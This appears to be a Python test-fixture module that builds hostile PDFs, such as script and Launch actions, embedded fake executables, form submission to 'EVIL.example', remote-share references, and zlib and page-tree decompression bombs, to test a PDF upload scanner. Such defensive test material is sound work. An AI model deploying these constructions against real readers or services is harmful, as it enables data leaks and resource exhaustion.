"""PDFs as attackers send them, made here so that no such file lies in the repository."""

import io
import struct
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String


def written(pdf: pikepdf.Pdf, **options: object) -> bytes:
    target = io.BytesIO()
    pdf.save(target, **options)
    return target.getvalue()


def plain(pages: int = 1, title: str = "") -> bytes:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page()
    if title:
        pdf.docinfo["/Title"] = title
    return written(pdf, deterministic_id=True)


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert('EVIL')"))


def with_page(change: Callable[[pikepdf.Pdf, pikepdf.Page], None]) -> bytes:
    pdf = pikepdf.new()
    change(pdf, pdf.add_blank_page())
    return written(pdf)


def written_plainly(change: Callable[[pikepdf.Pdf, pikepdf.Page], None]) -> bytes:
    """With every stream as it is given, so that a scanner or a reader meets it that way."""
    pdf = pikepdf.new()
    change(pdf, pdf.add_blank_page())
    return written(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def note(pdf: pikepdf.Pdf, **fields: object) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([0, 0, 90, 90]), **fields))


def opens_with_script(pdf, page):
    pdf.Root.OpenAction = script()


def named_script(pdf, page):
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("EVIL"), script()])))


def script_on_every_trigger(pdf, page):
    pdf.Root.AA = Dictionary(WC=script())
    page.obj.AA = Dictionary(O=pdf.make_indirect(script()))


def launches(pdf, page):
    action = Dictionary(S=Name.Launch, F=String("cmd.exe EVIL"), Win=Dictionary(F=String("EVIL")))
    page.obj.Annots = Array([note(pdf, Subtype=Name.Link, A=action)])


def links_to_a_script(pdf, page):
    page.obj.Annots = Array([note(pdf, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:EVIL()")))])


def link_followed_by_script(pdf, page):
    action = Dictionary(S=Name.URI, URI=String("https://example.go.id/"), Next=Array([script()]))
    page.obj.Annots = Array([note(pdf, Subtype=Name.Link, A=action)])


def outline_with_script(pdf, page):
    item = pdf.make_indirect(Dictionary(Title=String("Bab"), A=script()))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))


def attachment(pdf, page):
    pdf.attachments["EVIL.exe"] = b"MZ EVIL"
    pdf.Root.AF = Array([pdf.attachments["EVIL.exe"].obj])
    pdf.Root.Collection = Dictionary(View=Name.T)


def attachment_note(pdf, page):
    file = pdf.make_stream(b"MZ EVIL")
    spec = Dictionary(Type=Name.Filespec, F=String("lampiran.exe"), EF=Dictionary(F=file))
    page.obj.Annots = Array([note(pdf, Subtype=Name.FileAttachment, FS=spec), note(pdf, Subtype=Name.Text, FS=spec)])


def xfa_form(pdf, page):
    field = note(pdf, Subtype=Name.Widget, FT=Name.Tx, T=String("a"), AA=Dictionary(K=script()))
    page.obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=pdf.make_stream(b"<xdp>EVIL</xdp>"))


def rich_media(pdf, page):
    content = Dictionary(Assets=Dictionary(Names=Array([String("EVIL.swf"), pdf.make_stream(b"FWS EVIL")])))
    page.obj.Annots = Array([note(pdf, Subtype=Name.RichMedia, RichMediaContent=content)])


def sends_a_form(pdf, page):
    action = Dictionary(S=Name.SubmitForm, F=String("http://EVIL.example/"))
    button = note(pdf, Subtype=Name.Widget, FT=Name.Btn, T=String("b"), A=action)
    page.obj.Annots = Array([button])
    pdf.Root.AcroForm = Dictionary(Fields=Array([button]))


def stream_kept_elsewhere(pdf, page):
    stream = pdf.make_stream(b"")
    stream.stream_dict["/F"] = String("//EVIL.example/share")
    page.obj.Contents = stream


def script_deep_in_direct_objects(pdf, page):
    held: object = script()
    for _ in range(60):
        held = Dictionary(Deep=Array([held]))
    pdf.Root["/PieceInfo"] = held


def opens_another_file(pdf, page):
    action = Dictionary(S=Name.GoToE, F=String("EVIL.pdf"), T=Dictionary(R=Name.C, N=String("EVIL")))
    page.obj.Annots = Array([note(pdf, Subtype=Name.Link, A=action)])
    pdf.Root.OpenAction = Dictionary(S=Name.GoToR, F=String("//EVIL.example/share/a.pdf"), D=Array([0, Name.Fit]))


def launch_called_a_link(pdf, page):
    action = Dictionary(S=Name.Launch, URI=String("https://example.go.id/"), F=String("EVIL.exe"))
    page.obj.Annots = Array([note(pdf, Subtype=Name.Link, A=pdf.make_indirect(action))])


def base_of_links(pdf, page):
    pdf.Root.URI = Dictionary(Base=String("javascript:EVIL//"))
    page.obj.Annots = Array([note(pdf, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("a")))])


def plays_a_sound(pdf, page):
    sound = pdf.make_stream(b"EVIL", R=8000)
    page.obj.Annots = Array(
        [note(pdf, Subtype=Name.Sound, Sound=sound), note(pdf, Subtype=Name.Screen, MK=String("EVIL"))]
    )
    pdf.Root.Names = Dictionary(Renditions=Dictionary(Names=Array([String("EVIL"), Dictionary(S=Name.MR)])))


def script_in_a_form_field(pdf, page):
    field = note(pdf, Subtype=Name.Widget, FT=Name.Tx, T=String("a"))
    field.AA = Dictionary(F=script(), C=pdf.make_indirect(script()))
    page.obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), CO=Array([field]), NeedAppearances=True)


ACTIVE = [
    *(opens_another_file, launch_called_a_link, base_of_links, plays_a_sound, script_in_a_form_field),
    *(opens_with_script, named_script, script_on_every_trigger, launches, links_to_a_script, link_followed_by_script),
    *(outline_with_script, attachment, attachment_note, xfa_form, rich_media, sends_a_form, stream_kept_elsewhere),
    script_deep_in_direct_objects,
]


def encrypted(**passwords: str) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    return written(pdf, encryption=pikepdf.Encryption(**passwords))


def no_pages() -> bytes:
    return written(pikepdf.new())


def object_bomb(megabytes: int = 350) -> bytes:
    """A few hundred kilobytes whose compressed object stream unfolds to `megabytes`."""
    squeeze = zlib.compressobj(9)
    packed = squeeze.compress(b"4 0 " + b"<< /Type /Catalog /Pages 3 0 R >>")
    for _ in range(megabytes):
        packed += squeeze.compress(b" " * 2**20)
    packed += squeeze.flush()
    head = b"%PDF-1.7\n"
    holder = b"1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    body = head + holder + packed + b"\nendstream\nendobj\n"
    pages_at = len(body)
    body += b"3 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    table_at = len(body)
    rows = [(0, 0, 65535), (1, len(head), 0), (1, table_at, 0), (1, pages_at, 0), (2, 1, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    body += b"2 0 obj\n<< /Type /XRef /Size 5 /W [1 4 2] /Root 4 0 R /Length %d >>\nstream\n" % len(table)
    return body + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % table_at


def drawing_bomb(megabytes: int = 200) -> bytes:
    """One page whose drawing unfolds to far more than any page needs."""

    def fill(pdf, page):
        squeeze = zlib.compressobj(9)
        packed = b"".join(squeeze.compress(b" " * 2**20) for _ in range(megabytes)) + squeeze.flush()
        page.obj.Contents = pikepdf.Stream(pdf, packed, Filter=Name.FlateDecode)

    return with_page(fill)


def packed_twice() -> bytes:
    def fill(pdf, page):
        packed = zlib.compress(zlib.compress(b" " * 30 * 2**20, 9), 9)
        page.obj.Contents = pikepdf.Stream(pdf, packed, Filter=Array([Name.FlateDecode, Name.FlateDecode]))

    return written_plainly(fill)


def page_bomb(levels: int = 9) -> bytes:
    """A tree of pages in which each branch is named ten times: a few hundred bytes, a thousand million pages."""
    body, places = b"%PDF-1.7\n", []
    kids = lambda number: b" ".join([b"%d 0 R" % number] * 10)  # noqa: E731
    rows = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    rows += [b"<< /Type /Pages /Count 10 /Kids [%s] >>" % kids(number + 1) for number in range(2, levels + 2)]
    rows.append(b"<< /Type /Page /MediaBox [0 0 9 9] >>")
    for number, row in enumerate(rows, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, row)
    table = b"0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(rows) + 1, len(body))
    return body + b"xref\n0 %d\n%s%s" % (len(rows) + 1, table, end)


PNG = b"\x89PNG\r\n\x1a\n" + bytes(64)
REFUSED = {
    "a web page": (b"<!doctype html><script>alert(1)</script>" + bytes(64), "wrong_kind"),
    "a web page before %PDF": (b"<html><script>alert(1)</script>\n" + plain(), "wrong_kind"),
    "a picture": (PNG, "wrong_kind"),
    "a picture before %PDF": (PNG + plain(), "wrong_kind"),
    "a program": (b"MZ\x90\x00" + bytes(200), "wrong_kind"),
    "a ZIP before %PDF": (b"PK\x03\x04" + plain(), "wrong_kind"),
    "an SVG": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "wrong_kind"),
    "only the first line": (b"%PDF-1.7\n", "broken_pdf"),
    "noise after the first line": (b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"%%EOF", "broken_pdf"),
    "half a file": (plain(30)[:-900], "broken_pdf"),
    "a password to open": (encrypted(user="rahasia", owner="rahasia"), "encrypted_pdf"),
    "a password to print": (encrypted(user="", owner="rahasia"), "encrypted_pdf"),
    "no pages": (no_pages(), "empty_pdf"),
    "too many pages": (plain(501), "too_many_pages"),
    "a drawing that unfolds": (drawing_bomb(), "too_heavy"),
    "a drawing packed twice": (packed_twice(), "too_heavy"),
}
# Whichever notices first: the reader, the weighing, or the limits of the process.
BOMBS = {"objects that unfold": object_bomb(), "pages without number": page_bomb()}
SOUND = {
    "a page": plain(),
    "forty pages": plain(40, title="Laporan"),
    "a page with an archive behind it": plain() + b"PK\x03\x04 EVIL",
}
